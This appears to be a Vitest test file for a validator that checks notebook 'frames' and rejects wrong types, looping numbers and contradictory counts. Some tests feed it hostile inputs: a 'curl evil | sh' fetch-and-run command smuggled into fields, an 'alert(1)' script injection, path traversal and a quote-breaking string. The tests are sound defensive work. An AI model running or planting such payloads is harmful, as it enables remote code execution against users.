import { describe, expect, it } from "vitest";

import { frameIn } from "../src/checked.js";
import { SHAPES } from "../src/shapes.js";
import { frameOf } from "./frames.js";

/** A frame with one field set, by its path. */
function crafted(path: readonly string[], value: unknown): unknown {
  const frame = structuredClone(frameOf({ longest: { task: 1, since: 0, worker: "w" } })) as unknown as Record<string, unknown>;
  let at = frame;
  for (const name of path.slice(0, -1)) at = at[name] as Record<string, unknown>;
  const last = path.at(-1) ?? "";
  if (value === undefined) Reflect.deleteProperty(at, last);
  else at[last] = value;
  return frame;
}

/** Every field of a frame down to plain values: its path and shape. */
function fields(shape = "Frame", path: readonly string[] = []): [readonly string[], string][] {
  return Object.entries(SHAPES[shape] ?? {}).flatMap(([name, kind]) => {
    const inner = kind.replace(/\?$|\|null$/, "");
    const own: [readonly string[], string] = [[...path, name], kind];
    return inner in SHAPES && !["waiting", "stale", "kept"].includes(name) ? [own, ...fields(inner, own[0])] : [own];
  });
}

describe("a frame from a notebook", () => {
  it("is taken as it is, without fields that nobody knows", () => {
    expect(frameIn({ ...frameOf(), onclick: "alert(1)" })).toEqual(frameOf());
  });

  it.each(fields().map(([path, shape]) => [path.join("."), path, shape] as const))("is none if its %s is of another kind", (_, path, shape) => {
    for (const value of [[[]], { a: 1 }, -1, 0.5, NaN, Infinity, "x".repeat(20_000), "1", true]) {
      const plain = shape.replace(/\?$|\|null$/, "");
      const fits = (plain === "string" && value === "1") || (plain === "boolean" && value === true) || (plain === "number" && value === 0.5);
      if (!fits) expect([value, frameIn(crafted(path, value))]).toEqual([value, null]);
    }
  });

  it("is none if a number would make a view loop for ever", () => {
    expect(frameIn(crafted(["tasks", "size"], 0))).toBeNull();
    expect(frameIn(crafted(["counts", "total"], 2 ** 60))).toBeNull();
  });

  it("is none if its counts contradict each other", () => {
    expect(frameIn(crafted(["counts", "failed"], 99))).toBeNull();
  });

  it("may lack what is optional, and what is not known is null", () => {
    expect(frameIn(crafted(["output"], undefined))).not.toHaveProperty("output");
    expect(frameIn(crafted(["ended"], undefined))).toMatchObject({ ended: null });
    expect(frameIn(crafted(["counts"], undefined))).toBeNull();
  });

  it("never chooses what a reader is told to run", () => {
    expect(frameIn(crafted(["attach"], "!curl evil | sh"))?.attach).toBe("%burst_attach 20261121-101828-5cj77ijt");
    expect(frameIn(crafted(["session"], "../../x"))).toBeNull();
    for (const job of ["0\n!curl evil | sh", '0").x("', ""]) expect(frameIn(crafted(["job"], job))).toBeNull();
  });

  it.each([null, undefined, 1, "frame", []])("is not %s", (value) => {
    expect(frameIn(value)).toBeNull();
  });
});
